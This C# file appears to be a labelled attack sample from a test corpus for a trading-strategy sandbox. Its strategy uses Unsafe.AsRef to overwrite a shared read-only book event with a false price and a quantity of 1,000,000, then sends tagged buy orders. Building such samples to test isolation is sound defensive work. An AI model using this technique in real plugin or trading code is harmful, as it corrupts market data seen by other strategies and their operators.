// Abuses: Unsafe.AsRef turns the read-only reference of a callback into a writable one.
// Harm: the event is shared: strategies called after this one see a price and quantity that no venue sent.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.CompilerServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.UnsafeAsrefOfInAttack;

public sealed class UnsafeAsrefOfInStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Unsafe.AsRef(in bookEvent) = bookEvent with { Price = bookEvent.Price + new Price(Price.Scale), Quantity = 1_000_000 };
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
